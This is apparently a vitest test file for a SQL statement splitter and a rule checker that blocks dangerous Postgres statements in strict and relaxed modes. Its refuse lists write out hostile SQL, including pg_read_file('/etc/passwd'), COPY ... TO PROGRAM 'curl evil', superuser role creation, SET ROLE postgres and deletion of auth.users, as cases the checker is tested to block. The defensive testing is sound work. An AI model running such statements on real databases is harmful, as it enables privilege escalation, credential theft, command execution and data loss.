import { describe, expect, it } from 'vitest';
import { splitStatements } from '../../src/shared/sql/statements.ts';
import { checkStatements, type SqlMode } from '../../src/shared/sql/strict-rules.ts';

async function rule(sql: string, mode: SqlMode = 'strict'): Promise<string | null> {
  return checkStatements(await splitStatements(sql), mode)?.rule ?? null;
}

describe('splitStatements', () => {
  it('splits with the real parser: semicolons in strings, dollar quotes and comments are not ends', async () => {
    const sql = `CREATE TABLE a (x text DEFAULT ';'); -- c;omment\nCREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1; $$;\nSELECT 'é;';`;
    const s = await splitStatements(sql);
    expect(s.map((x) => x.type)).toEqual(['CreateStmt', 'CreateFunctionStmt', 'SelectStmt']);
    expect(s[0]!.text).toBe(`CREATE TABLE a (x text DEFAULT ';')`);
    expect(s[1]!.text).toBe(`CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1; $$`);
    expect(s[2]!.text).toBe(`SELECT 'é;'`);
  });

  it('skips empty statements and reports syntax errors as 400', async () => {
    expect((await splitStatements(';;SELECT 1;;')).map((x) => x.text)).toEqual(['SELECT 1']);
    await expect(splitStatements('SELEC 1')).rejects.toMatchObject({ status: 400, code: 'SQL_SYNTAX_ERROR' });
  });
});

describe('strict mode', () => {
  it.each([
    'SELECT * FROM posts WHERE id = $1',
    'SELECT 1::int, now(), pg_catalog.now()',
    "INSERT INTO public.t (a) VALUES ('basalt') RETURNING *",
    'UPDATE t SET a = 1 WHERE b IN (SELECT id FROM users)',
    'CREATE TABLE t (id int PRIMARY KEY, name text)',
    'CREATE EXTENSION IF NOT EXISTS pgcrypto',
    "SET LOCAL request.jwt.claims = '{}'",
    "SELECT set_config('request.jwt.claims', '{}', true)",
    'GRANT SELECT ON t TO anon',
    'SELECT * FROM public.pg_like_name',
  ])('allows %s', async (sql) => {
    expect(await rule(sql)).toBeNull();
  });

  it.each([
    ['SELECT * FROM pg_catalog.pg_class', 'system-tables'],
    ['SELECT * FROM pg_shadow', 'system-tables'],
    ['SELECT * FROM information_schema.tables', 'system-tables'],
    ['WITH x AS (SELECT * FROM pg_authid) SELECT * FROM x', 'system-tables'],
    ['SELECT (SELECT count(*) FROM pg_roles) AS n', 'system-tables'],
    ['SELECT * FROM t WHERE EXISTS (SELECT 1 FROM basalt.artifacts)', 'control-schema'],
    ['CREATE VIEW v AS SELECT * FROM basalt.control_migrations', 'control-schema'],
    ['DROP SCHEMA basalt CASCADE', 'control-schema'],
    ['ALTER TABLE t SET SCHEMA basalt', 'control-schema'],
    ["SELECT basalt.raise_error('P0001', 'x', 'y')", 'control-schema'],
    ['SELECT email FROM auth.users', 'auth-users'],
    ['DROP TABLE auth.users', 'auth-users'],
    ['CREATE ROLE evil SUPERUSER', 'role-management'],
    ['CREATE USER evil', 'role-management'],
    ['ALTER ROLE anon SUPERUSER', 'role-management'],
    ['DROP ROLE anon', 'role-management'],
    ['GRANT service_role TO anon', 'role-management'],
    ['ALTER ROLE anon RENAME TO x', 'role-management'],
    ['SET ROLE postgres', 'session-role'],
    ['SET SESSION AUTHORIZATION postgres', 'session-role'],
    ["SELECT set_config('role', 'postgres', false)", 'session-role'],
    ['SET statement_timeout = 0', 'statement-timeout'],
    ['SET search_path = basalt', 'search-path'],
    ["ALTER SYSTEM SET work_mem = '1GB'", 'alter-system'],
    ["COPY t FROM PROGRAM 'id'", 'copy-program'],
    ["COPY (SELECT 1) TO '/tmp/x'", 'copy-file'],
    ['COPY t TO STDOUT', 'copy-stdio'],
    ["SELECT pg_read_file('/etc/passwd')", 'file-access'],
    ["SELECT * FROM t WHERE a = (SELECT pg_read_file('/etc/passwd'))", 'file-access'],
    ["SELECT lo_import('/etc/passwd')", 'file-access'],
    ["SELECT query_to_xml('select * from basalt.artifacts', true, true, '')", 'dynamic-sql'],
    ['SELECT pg_terminate_backend(1)', 'server-admin'],
    ['CREATE OPERATOR ### (FUNCTION = pg_terminate_backend, RIGHTARG = int)', 'server-admin'],
    ['CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION basalt.notify_schema_change()', 'control-schema'],
    ['CREATE DATABASE x', 'database-level'],
    ['DROP DATABASE x', 'database-level'],
    ['ALTER DATABASE x SET search_path = basalt', 'database-level'],
    ["CREATE TABLESPACE x LOCATION '/tmp'", 'database-level'],
    ["LOAD 'x'", 'database-level'],
    ['CREATE SERVER s FOREIGN DATA WRAPPER file_fdw', 'database-level'],
    ['DO $$ BEGIN PERFORM 1; END $$', 'opaque-code'],
    ['CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$', 'opaque-code'],
    ['BEGIN', 'transaction-control'],
    ['SELECT 1; COMMIT', 'transaction-control'],
    ['SAVEPOINT a', 'transaction-control'],
  ])('refuses %s (%s)', async (sql, expected) => {
    expect(await rule(sql)).toBe(expected);
  });

  it('names the rule and the relation in the message', async () => {
    const v = checkStatements(await splitStatements('SELECT * FROM pg_catalog.pg_authid'), 'strict')!;
    expect(v.status).toBe(403);
    expect(v.message).toContain("rule 'system-tables'");
    expect(v.message).toContain('pg_catalog.pg_authid');
  });
});

describe('relaxed mode', () => {
  it.each([
    'SELECT * FROM auth.users LIMIT 10',
    'SELECT * FROM pg_catalog.pg_class',
    'SELECT * FROM information_schema.tables',
    "INSERT INTO basalt.control_migrations (version, name) SELECT 9999, 'x' WHERE false",
    'EXPLAIN SELECT * FROM pg_class',
    'SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE false',
  ])('allows %s', async (sql) => {
    expect(await rule(sql, 'relaxed')).toBeNull();
  });

  it.each([
    ['UPDATE basalt.artifacts SET size = 0', 'control-schema'],
    ['DELETE FROM auth.users', 'auth-users'],
    ['WITH d AS (DELETE FROM basalt.artifacts RETURNING 1) SELECT * FROM d', 'control-schema'],
    ['DROP TABLE basalt.artifacts', 'control-schema'],
    ['TRUNCATE pg_catalog.pg_class', 'system-tables'],
    ["COPY t TO PROGRAM 'curl evil'", 'copy-program'],
    ["COPY t FROM '/etc/passwd'", 'copy-file'],
    ["SELECT pg_read_binary_file('/etc/passwd')", 'file-access'],
    ['SET ROLE postgres', 'session-role'],
    ['CREATE ROLE x', 'role-management'],
    ['ALTER SYSTEM RESET ALL', 'alter-system'],
    ['DROP DATABASE x', 'database-level'],
    ['ROLLBACK', 'transaction-control'],
    ['SET statement_timeout = 0', 'statement-timeout'],
    ['SET search_path = basalt', 'search-path'],
    ["SELECT dblink_exec('dbname=x', 'COPY t TO PROGRAM ''id''')", 'dynamic-sql'],
    ["SELECT query_to_xml('COPY t TO PROGRAM ''id''', true, true, '')", 'dynamic-sql'],
    ['CREATE OPERATOR ### (FUNCTION = pg_read_file, RIGHTARG = text)', 'file-access'],
    ['CREATE CAST (int AS text) WITH FUNCTION pg_catalog.lo_export(oid, text)', 'file-access'],
  ])('refuses %s (%s)', async (sql, expected) => {
    expect(await rule(sql, 'relaxed')).toBe(expected);
  });
});
